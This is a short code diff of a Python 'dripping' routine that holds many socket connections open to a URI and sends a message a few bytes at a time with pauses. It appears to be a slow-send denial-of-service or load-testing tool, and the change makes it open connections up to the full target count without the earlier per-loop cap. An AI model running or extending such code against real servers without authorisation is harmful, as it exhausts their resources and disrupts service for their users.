@@ -183,7 +183,7 @@ def dripping(message: bytes, connections: int, bytes_at_once: int = 1, pause_s: 
     def attack(uri: str, ends: threading.Event) -> None:
         socks: dict[socket.socket, int] = {}
         while not ends.is_set():
-            for _ in range(min(200, connections - len(socks))):
+            while len(socks) < connections and not ends.is_set():
                 with contextlib.suppress(OSError):
                     socks[connected(uri)] = 0
             for sock, at in list(socks.items()):
@@ -195,8 +195,7 @@ def dripping(message: bytes, connections: int, bytes_at_once: int = 1, pause_s: 
                 except OSError:
                     del socks[sock]
                     sock.close()
-            if len(socks) >= connections:
-                ends.wait(pause_s)
+            ends.wait(pause_s)
         for sock in socks:
             sock.close()
 
